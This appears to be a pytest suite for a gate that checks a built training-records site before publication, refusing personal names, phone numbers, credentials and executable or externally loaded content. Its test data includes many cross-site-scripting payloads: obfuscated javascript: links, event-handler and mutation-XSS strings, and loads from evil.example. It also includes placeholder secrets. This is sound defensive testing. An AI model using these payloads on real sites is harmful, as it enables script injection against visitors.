"""Each kind of thing that must not get out, put straight into a finished folder, is refused; ordinary pages are not."""

import base64
import gzip
import json
import shutil
from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest

from leaky_files import leaks, zipped
from training_site.privacy.names import HarmlessWord, KnownName
from training_site.privacy.numbers import find_personal
from training_site.problems import Problem
from training_site.publish.gate.gate import Staged, check_stage
from training_site.publish.gate.shell_bytes import ShellBytes
from training_site.publish.server.csp import policy, script_hash
from training_site.supply.components import program_components
from training_site.supply.sbom import own_files

THEME = Path(__file__).parents[4] / "hooks" / "training_site" / "theme"
OWN = (script_hash("theme()"),)
PAGE = (
    f'<!doctype html><html lang="zh"><head><meta http-equiv="Content-Security-Policy" content="{escape(policy(OWN))}">'
    '<title>页</title><link rel="stylesheet" href="{up}css/theme.css"><script src="{up}js/theme.js"></script></head>'
    "<body><main><article>{body}</article></main></body></html>"
)
WORD = HarmlessWord("courses/pump/manual/03.md", "用电高峰")
KNOWN = (
    KnownName("欧阳若溪", "p-91", "roster/beta", "欧阳**", is_open=False),
    KnownName("Jane Doe", "p-92", "roster/beta", "J.D.", is_open=False),
    KnownName("高峰", "r-91", "roster/beta", "高*", is_open=False, ordinary=(WORD,)),
    KnownName("张三", "p-01", "roster/acme", "张*", is_open=False),
    KnownName("高峰林", "p-03", "roster/acme", "高**", is_open=True),
    KnownName("陈教员", "t-01", "roster/instructors", "陈**", is_open=False),
    KnownName("Mark Table", "p-93", "roster/beta", "M.T.", is_open=False),
)
ADDRESSES = ("index.html", "customers/acme/people/p-01.html", "courses/pump/01.html")


@pytest.fixture
def site(tmp_path: Path) -> Path:
    folder = tmp_path / "site"
    for address in ADDRESSES:
        put_page(folder, address, "<h1>培训档案</h1><p>张*、欧阳**，92 分，2026-03-05 09:00–11:30</p>")
    for name in ("css/theme.css", "js/theme.js"):
        (folder / name).parent.mkdir(exist_ok=True)
        shutil.copy(THEME / name, folder / name)
    put(
        folder,
        "search/search_index.json",
        json.dumps({"docs": [{"text": "\u200b培训\u200b档案"}]}, ensure_ascii=False),
    )
    index = (folder / "search/search_index.json").read_text(encoding="utf-8")
    put(folder, "search/search_index.js", f"\ufeffvar __index = {index}")
    put(folder, "lookup/index.js", 'trainingLookup.index({"length":1,"shards":["0a"]});\n')
    assert gate(folder) == ()
    return folder


def put(folder: Path, address: str, content: str | bytes) -> None:
    file = folder / address
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content.encode() if isinstance(content, str) else content)


def put_page(folder: Path, address: str, body: str) -> None:
    put(folder, address, PAGE.format(up="../" * address.count("/"), body=body))


def gate(folder: Path, known: tuple[KnownName, ...] = KNOWN, **more) -> tuple[Problem, ...]:
    return check_stage(Staged(folder, folder.parent, known, scripts=OWN, **more))


def only(folder: Path, code: str = "E-NAME") -> Problem:
    found = gate(folder)
    assert {one.code for one in found} == {code}
    said = "".join(one.message + one.cure + str(one.where) for one in found)
    assert not any(one.text in said for one in KNOWN if not one.is_open)
    return found[0]


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize(
    "body",
    [
        *(
            "<p>欧阳若溪</p>",
            "<p>欧 阳\u3000若·溪</p>",
            "<p>欧阳&nbsp;若溪</p>",
            "<p>&#27431;&#38451;若溪</p>",
            "<p>欧阳\u200b若溪</p>",
        ),
        *(
            "<p title='欧阳若溪'>x</p>",
            "<!-- 欧阳若溪 -->",
            "<a href='files/%E6%AC%A7%E9%98%B3%E8%8B%A5%E6%BA%AA.pdf'>x</a>",
        ),
        *(
            "<p>JANE DOE</p>",
            "<p>jane-doe</p>",
            "<p>Ｊａｎｅ　Ｄｏｅ</p>",
            "<a href='people/jane-doe.html'>x</a>",
            "<a href='jane%20doe'>x</a>",
        ),
        *(
            "<svg><title>高峰</title></svg>",
            '<script type="application/json">{"a": "高峰"}</script>',
            "<p>高\n峰</p>",
        ),
    ],
)
def test_name_in_a_page_is_refused(site, address, body):
    put_page(site, address, f"<h1>页</h1>{body}")
    assert address in only(site).message


@pytest.mark.parametrize(
    ("address", "content"),
    [
        ("search/search_index.json", json.dumps({"docs": [{"text": "由欧阳\u200b若溪提出"}]})),
        ("search/search_index.json", '{"docs": [{"title": "欧阳<b>若</b>溪"}]}'),
        ("lookup/0a.js", 'trainingLookup.shard("0a", [["\\u6b27\\u9633\\u82e5\\u6eaa","a"]]);\n'),
        ("data/facts.json", '{"name": "\\u6b27\\u9633\\u82e5\\u6eaa"}'),
        ("data/facts.csv", "\ufeff编号,姓名\r\n1,欧 阳 若 溪\r\n"),
        ("calendar.ics", "BEGIN:VCALENDAR\r\nSUMMARY:由欧阳\r\n 若溪讲\r\nEND:VCALENDAR\r\n"),
        (
            "sitemap.xml",
            "<urlset><url><loc>https://x.example/%E6%AC%A7%E9%98%B3%E8%8B%A5%E6%BA%AA.html</loc></url></urlset>",
        ),
        ("sitemap.xml.gz", gzip.compress("<urlset>欧阳若溪</urlset>".encode(), mtime=0)),
        ("robots.txt", "# 欧阳若溪\n"),
        ("files/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><text>欧阳<tspan>若溪</tspan></text></svg>'),
        ("files/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><!-- 欧阳若溪 --></svg>'),
        ("files/downloads/list.csv.zip", zipped({"list.csv": "姓名\n欧阳若溪\n".encode("gb18030")})),
        ("files/downloads/list.csv.zip", zipped({"欧阳若溪.csv": "x"})),
    ],
)
def test_name_in_another_file_is_refused(site, address, content):
    put(site, address, content)
    if address.endswith("index.json"):
        put(site, "search/search_index.js", f"var __index = {content}")
    assert address in only(site).message


@pytest.mark.parametrize("what", leaks("x"))
def test_name_or_number_inside_a_document_or_picture_is_refused(site, what):
    ending, data = leaks("欧阳若溪")[what]
    put(site, f"files/customers/acme/a{ending}", data)
    assert f"a{ending}" in only(site).message
    ending, data = leaks("138" + "0013" + "8000")[what]
    put(site, f"files/customers/acme/a{ending}", data)
    only(site, "E-PII")


@pytest.mark.parametrize(
    "address",
    [
        "files/欧阳若溪.pdf",
        "files/张 三签到表.pdf",
        "customers/beta/people/jane-doe.html",
        f"files/{quote('高峰')}.pdf",
    ],
)
def test_name_in_an_address_is_refused_and_not_printed(site, address):
    put_page(site, address, "x")
    found = only(site)
    assert Path(address).stem not in found.message + str(found.where)


NUMBER = "138" + "0013" + "8000"


@pytest.mark.parametrize(
    "text",
    [
        *(
            NUMBER,
            f"{NUMBER[:3]}.{NUMBER[3:7]}.{NUMBER[7:]}",
            NUMBER.translate(str.maketrans("0138", "零一三八")),
        ),
        *(
            "zhang@corp.com",
            "zhang(at)corp.com",
            "zhang AT corp DOT com",
            "密码：hunter2!x",
            "AKIA" + "ABCDEFGH23456789",
        ),
        *(
            "138OO138OOO",
            NUMBER.translate(str.maketrans("0138", "٠١٣٨")),
            "&#49;380013" + "8000",
            "微信号：zhangsan_66",
        ),
    ],
)
@pytest.mark.parametrize("address", ADDRESSES)
def test_number_or_key_in_a_page_is_refused_in_both_editions(site, address, text):
    put_page(site, address, f"<p>联系 {text} 。</p>")
    for known in (KNOWN, ()):
        found = gate(site, known)
        assert {one.code for one in found} <= {"E-PII", "E-SECRET"}
        assert found
        assert all(text not in one.message for one in found)


RUNS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT >alert(1)</SCRIPT >",
    "script from outside": '<script src="https://evil.example/x.js"></script>',
    "script by two slashes": '<script src="//evil.example/x.js"></script>',
    "script of an evidence file": '<script src="files/customers/acme/a.txt"></script>',
    "script with another type": '<script type="module">import "x"</script>',
    "script in a drawing": "<svg><script>alert(1)</script></svg>",
    "handler": '<img src="a.png" onerror="alert(1)">',
    "handler in capitals": "<img src=a.png ONERROR = alert(1)>",
    "handler after a slash": "<img/onerror=alert(1)/src=a.png>",
    "handler on a new line": "<p\nonclick='x'>x</p>",
    "handler without a blank": '<p title="x"onclick="x">x</p>',
    "handler nobody knows": "<p onfuture=x>x</p>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript link by entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript link with a leading blank": '<a href="&#1; JaVaScRiPt:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript link": '<a href="vbscript:x">x</a>',
    "link by two backslashes": r'<a href="\\evil.example">x</a>',
    "frame": '<iframe src="a.html"></iframe>',
    "frame of text": "<iframe srcdoc='<script>x</script>'></iframe>",
    "object": '<object data="a.pdf"></object>',
    "embed": '<embed src="a.pdf">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "style element": "<style>*{display:none}</style>",
    "style attribute": '<p style="position:fixed">x</p>',
    "style sheet from outside": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "preload from outside": '<link rel="preload" href="//evil.example/x">',
    "picture from outside": '<img src="https://evil.example/x.png">',
    "picture by entities": '<img src="&#104;ttps://evil.example/x.png">',
    "picture by slash and backslash": r'<img src="/\evil.example/x.png">',
    "picture set from outside": '<img src="a.png" srcset="b.png 1x, https://evil.example/c.png 2x">',
    "drawing as data": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "form that goes out": '<form action="https://evil.example/"><button>x</button></form>',
    "button that goes out": '<form><button formaction="https://evil.example/">x</button></form>',
    "video": '<video src="a.mp4"></video>',
    "use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "picture in a drawing": '<svg><image href="https://evil.example/x.png"/></svg>',
    "link in a drawing": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "animation": '<svg><animate attributeName="href" to="javascript:x"/></svg>',
    "foreign object": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "mathematics": "<math><mtext>x</mtext></math>",
    "template": "<template><script>x</script></template>",
    "plaintext": "<plaintext>x",
    "noscript that hides a script": '<noscript><p title="</noscript><script>alert(1)</script>"></p></noscript>',
    "mutation": "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "ping": '<a href="a.html" ping="https://evil.example/">x</a>',
}  # fmt: skip


@pytest.mark.parametrize("known", [KNOWN, ()], ids=["public", "internal"])
@pytest.mark.parametrize("what", RUNS)
def test_what_runs_or_loads_is_refused_on_pages_of_every_kind(site, what, known):
    shell = PAGE.format(up="../../../", body="\x00").encode().split(b"\x00")
    for address in ("customers/acme/people/p-01.html", "customers/acme/people/p-02.html", "index.html"):
        put_page(site, address, f"<h1>页</h1>{RUNS[what]}<p>后面</p>")
    found = gate(site, known, shells=(tuple(part.ljust(300) for part in shell), tuple(shell)))
    assert {one.code for one in found} == {"E-GATE"}
    assert {one.where.path for one in found} == {
        "customers/acme/people/p-01.html",
        "customers/acme/people/p-02.html",
        "index.html",
    }


HARMLESS = (
    *("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<pre><code>&lt;img onerror=x&gt; javascript:void(0)</code></pre>"),
    *("<p>turn it on = start</p>", '<p title="a onclick=x">x</p>', '<a href="https://example.com/">x</a>', '<a href="mailto:a@example.com">x</a>'),
    *("<p>用电高峰</p><p>用电 高峰</p>", "<p>高峰林</p>", "<p>最高</p><p>峰值</p>", "<table><tr><td>高</td><td>峰</td></tr></table>", "<p>高*峰</p>"),
    *('<p class="mark-table jane-doe">x</p>', "<p>张*三次</p>", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">'),
    *('<link rel="canonical" href="https://training.example.com/a.html">', "<p>192.168.10.100，0577-88001380，400-800-8888</p>"),
    *("<p>2026-03-05 2026-03-06 2026-03-07</p>", f"<p>{'9f86d081884c7d65' * 4}</p>", '<svg><path d="M13800138000 13800138000"/></svg>'),
)  # fmt: skip


@pytest.mark.parametrize("body", HARMLESS)
@pytest.mark.parametrize("address", ADDRESSES)
def test_ordinary_words_and_links_are_no_finding(site, address, body):
    put_page(site, address, f"<h1>页</h1>{body}")
    assert gate(site) == ()


def test_word_that_is_the_name_itself_may_stand_only_near_its_place(site):
    word = HarmlessWord("courses/pump/manual/03.md", "高峰")
    known = (KnownName("高峰", "r-91", "roster/beta", "高*", is_open=False, ordinary=(word,)),)
    put_page(site, "courses/pump/03.html", "<p>高峰</p>")
    assert gate(site, known) == ()
    put_page(site, "courses/other/03.html", "<p>高峰</p>")
    assert ["courses/other/03.html" in one.message for one in gate(site, known)] == [True]


def test_words_of_the_site_itself_are_excepted_by_the_place_hooks(site):
    word = HarmlessWord("hooks", "培训")
    known = KnownName("培训", "p-91", "roster/beta", "培*", is_open=False)
    put_page(site, "customers/acme/people/p-01.html", "<h1>培训档案</h1>")
    assert len(gate(site, (known,))) == 4
    assert (
        gate(site, (KnownName("培训", "p-91", "roster/beta", "培*", is_open=False, ordinary=(word,)),)) == ()
    )


def test_a_script_on_a_page_passes_when_the_theme_brings_it_and_is_refused_otherwise(site):
    put_page(site, "a.html", "<script>theme()</script>")
    assert gate(site) == ()
    put_page(site, "a.html", "<script>theme() </script>")
    assert only(site, "E-GATE").where.path == "a.html"
    put_page(site, "a.html", "<script>theme()</script>")
    assert check_stage(Staged(site, site.parent, KNOWN)) != (), "and without the list none does"


def test_inline_elements_are_joined_on_pages_of_prose_only(site):
    put_page(site, "courses/pump/01.html", "<p>欧<b>阳</b>若溪</p>")
    assert gate(site) == ()
    (found,) = gate(site, prose=frozenset({"courses/pump/01.html"}))
    assert found.code == "E-NAME"


@pytest.mark.parametrize(
    ("address", "content"),
    [
        ("files/a.exe", b"MZ"),
        ("files/a.html.bak", b"x"),
        ("files/a.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
        ("files/a", b"x"),
        ("css/other.css", b"p{}"),
        ("css/theme.css", b"@import 'https://evil.example/x.css';"),
        ("js/theme.js", b"alert(1)"),
        ("js/other.js", b"alert(1)"),
        ("lookup/0b.js", b'trainingLookup.shard("0b", alert(1));\n'),
        ("lookup/0b.js", b'trainingLookup.shard("0b", []);alert(1);\n'),
        ("search/search_index.js", b"var __index = {};alert(1)"),
        ("search/search_index.js", b'var __index = {"docs":[]}'),
        ("a.php", b"<?php ?>"),
        ("files/a.wasm", b"\0asm"),
        ("files/a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
        ("files/a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("files/a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><a href='x'><text>x</text></a></svg>"),
        ("files/a.svg", b"<!DOCTYPE svg [<!ENTITY x 'y'>]><svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("files/a.svg", b"<?xml-stylesheet href='x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("files/a.svg", b"<svg"),
    ],
)
def test_file_that_is_not_ours_and_not_on_the_list_is_refused(site, address, content):
    put(site, address, content)
    found = gate(site, ())
    assert {one.code for one in found if one.where.path == address} == {"E-GATE"}


def test_element_that_nobody_knows_is_refused_on_a_page_that_goes_through_mkdocs(site):
    put_page(site, "index.html", "<x-widget>x</x-widget>")
    assert "<x-widget>" in only(site, "E-GATE").message


def test_finding_points_to_the_source_and_its_line(site):
    put(site.parent, "roster/beta/people.yml", "trainees:\n  - {id: p-91, name: 欧阳若溪}\n")
    put(site.parent, "courses/other/course.yml", "title: x\n")
    put(site.parent, "courses/pump/manual/01.md", "---\ntitle: x\n---\n第一行\n由欧 阳若溪提出\n")
    put_page(site, "courses/pump/01.html", "<p>由欧 阳若溪提出</p>")
    (found,) = gate(site)
    assert (found.where.path, found.where.line, found.where.column) == ("courses/pump/manual/01.md", 5, 2)
    put(site.parent, "courses/pump/manual/01.md", "x\n")
    assert [one.where.path for one in gate(site)] == ["roster/beta/people.yml"]
    put_page(site, "courses/pump/01.html", f"<p>{NUMBER}</p>")
    put(site.parent, "docs/a.md", f"x\n\n电话 {NUMBER}\n")
    assert [(one.where.path, one.where.line) for one in gate(site)] == [("docs/a.md", 3)]


def test_many_findings_are_told_up_to_a_limit(site):
    for number in range(40):
        put_page(site, f"a{number}.html", "<p>欧阳若溪</p>")
    assert len(gate(site)) == 20


@pytest.mark.parametrize("edition", ["public", "internal"])
def test_names_are_nobody_s_business_in_the_internal_edition(site, edition):
    put_page(site, "index.html", "<p>欧阳若溪</p>")
    assert bool(gate(site, KNOWN if edition == "public" else ())) == (edition == "public")


def shells() -> tuple[tuple[bytes, ...], ...]:
    return ((b"<head>" * 60, b"<nav>" * 60, b"<foot>" * 60), (b"<head>" * 60, b"<other>" * 60))


def test_page_is_looked_at_without_what_its_shell_has_and_the_first_one_whole():
    known = ShellBytes(shells())
    page = shells()[0][0] + b"title" + shells()[0][1] + b"body" + shells()[0][2] + b"end"
    assert known.rest(page) is page
    assert known.rest(page).split(b"\n\x00\n") == [b"", b"title", b"body", b"end"]
    second = shells()[1][0] + b"title" + shells()[1][1] + b"end"
    assert known.rest(second) is second
    assert known.rest(second).split(b"\n\x00\n") == [b"", b"title", b"end"]


def test_page_whose_shell_was_changed_anywhere_is_looked_at_whole():
    known = ShellBytes(shells())
    page = shells()[0][0] + b"title" + shells()[0][1] + b"body" + shells()[0][2] + b"end"
    known.rest(page)
    for at in range(0, len(page), 37):
        changed = page[:at] + b"!" + page[at + 1 :]
        rest = known.rest(changed)
        assert b"!" in rest
    assert known.rest(page[:-900]) == page[:-900]


def test_base64_and_other_long_texts_take_no_longer_than_their_length(site):
    put_page(
        site,
        "index.html",
        f"<p>{base64.b64encode(bytes(range(256)) * 400).decode()}</p><p>{'长' * 100_000}</p>",
    )
    assert gate(site) == ()


def test_the_first_digits_of_a_hash_are_nobody_s_number(tmp_path):
    digest = "13812345678a" + "0f" * 26
    page = f'<p>扫描件 <code title="SHA-256 {digest}">{digest[:12]}</code> 本页哈希 f19830393559d548</p>'
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    assert check_stage(Staged(tmp_path, tmp_path)) == ()
    (tmp_path / "a.html").write_text(page.replace("扫描件", "13812345678"), encoding="utf-8")
    assert [found.code for found in check_stage(Staged(tmp_path, tmp_path))] == ["E-PII"]


def test_texts_of_licences_are_known_by_their_bytes_alone(site):
    texts = {address: data for address, data in own_files(program_components()).items() if b"@" in data}
    assert texts, "licences name their authors with addresses"
    for address, data in texts.items():
        put(site, address, data)
    assert gate(site) == ()
    address = next(one for one in sorted(texts) if find_personal(texts[one].decode()))
    put(site, address, texts[address] + b"\n")
    assert only(site, "E-PII").message.startswith(f"成品 {address} 里有")
    put(site, address, texts[address])
    put(site, "licences/other/LICENSE.txt", texts[address])
    assert "licences/other" in only(site, "E-PII").message
